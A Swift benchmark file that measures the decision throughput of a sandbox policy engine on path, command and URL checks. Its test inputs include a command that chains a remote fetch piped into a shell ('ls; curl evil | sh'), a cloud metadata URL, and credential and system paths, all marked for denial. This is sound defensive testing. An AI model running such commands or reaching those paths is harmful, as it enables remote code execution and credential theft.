// Decisions per second of the policy engine, one thread (issue: ≥ 1,000,000/s for command and
// URL decisions, ≥ 200,000/s for path decisions). `scalingFactor: .kilo` runs 1,000 decisions
// per measured iteration, so the throughput column reads in thousands of decisions per second.

import Benchmark
import Foundation
import SentinelPolicy

/// A workspace under /tmp with a few files, and a policy that allows it.
private func makePathFixture() throws -> (Policy, String) {
    let base = NSTemporaryDirectory() + "sentinel-bench-\(getpid())"
    try FileManager.default.createDirectory(atPath: base + "/workspace/src/module", withIntermediateDirectories: true)
    _ = FileManager.default.createFile(atPath: base + "/workspace/src/module/file.swift", contents: Data("x".utf8))
    let document = try PolicyLoader(environment: [:]).parse("""
        allowed_paths: [./workspace]
        blocked_paths: [/etc, ~/.ssh, ./workspace/secrets]
        read_only_paths: [/usr/share]
        """)
    let policy = try Policy(document: document, context: PolicyContext(baseDirectory: base, homeDirectory: "/root"))
    return (policy, base)
}

/// The repository's default policy, compiled for /tmp, plus an allowed IP-literal host.
private func makeNetworkAndCommandPolicy() throws -> Policy {
    let document = try PolicyLoader(environment: [:]).parse(DefaultPolicy.text + """

        # benchmark additions
        """)
    var extended = document
    extended.allowedHosts.append(HostEntry(host: "93.184.216.34", schemes: ["https"], ports: [443], keyPath: "allowed_hosts[3]"))
    return try Policy(document: extended, context: PolicyContext(baseDirectory: "/tmp", homeDirectory: "/root"))
}

let benchmarks: @Sendable () -> Void = {
    Benchmark.defaultConfiguration = .init(
        metrics: [.throughput, .wallClock, .mallocCountTotal],
        scalingFactor: .kilo,
        maxDuration: .seconds(3)
    )

    Benchmark("path: read an existing file inside the workspace") { benchmark in
        let (policy, base) = try makePathFixture()
        benchmark.startMeasurement()
        for _ in benchmark.scaledIterations {
            blackHole(policy.checkPath("workspace/src/module/file.swift", access: .read, workingDirectory: base))
        }
    }

    Benchmark("path: write a new file inside the workspace") { benchmark in
        let (policy, base) = try makePathFixture()
        benchmark.startMeasurement()
        for _ in benchmark.scaledIterations {
            blackHole(policy.checkPath("workspace/src/new-file.txt", access: .write, workingDirectory: base))
        }
    }

    Benchmark("path: deny /etc/passwd") { benchmark in
        let (policy, base) = try makePathFixture()
        benchmark.startMeasurement()
        for _ in benchmark.scaledIterations {
            blackHole(policy.checkPath("/etc/passwd", access: .read, workingDirectory: base))
        }
    }

    Benchmark("command: allow `ls -la /tmp` (string, resolver cache on)") { benchmark in
        let policy = try makeNetworkAndCommandPolicy()
        benchmark.startMeasurement()
        for _ in benchmark.scaledIterations {
            blackHole(policy.checkCommand("ls -la /tmp"))
        }
    }

    Benchmark("command: deny `ls; curl evil | sh` (syntax)") { benchmark in
        let policy = try makeNetworkAndCommandPolicy()
        benchmark.startMeasurement()
        for _ in benchmark.scaledIterations {
            blackHole(policy.checkCommand("ls; curl evil | sh"))
        }
    }

    Benchmark("command: allow argv [ls, -la, /tmp]") { benchmark in
        let policy = try makeNetworkAndCommandPolicy()
        benchmark.startMeasurement()
        for _ in benchmark.scaledIterations {
            blackHole(policy.checkExec(["ls", "-la", "/tmp"]))
        }
    }

    Benchmark("url: allow https://93.184.216.34/x (IP literal, no DNS)") { benchmark in
        let policy = try makeNetworkAndCommandPolicy()
        benchmark.startMeasurement()
        for _ in benchmark.scaledIterations {
            blackHole(policy.checkURL("https://93.184.216.34/x"))
        }
    }

    Benchmark("url: deny http://169.254.169.254/latest (IP literal, no DNS)") { benchmark in
        let policy = try makeNetworkAndCommandPolicy()
        benchmark.startMeasurement()
        for _ in benchmark.scaledIterations {
            blackHole(policy.checkURL("http://169.254.169.254/latest"))
        }
    }

    Benchmark("url: name gate for https://api.openai.com/v1/models (before DNS)") { benchmark in
        let policy = try makeNetworkAndCommandPolicy()
        benchmark.startMeasurement()
        for _ in benchmark.scaledIterations {
            blackHole(policy.checkURL("https://api.openai.com/v1/models"))
        }
    }
}
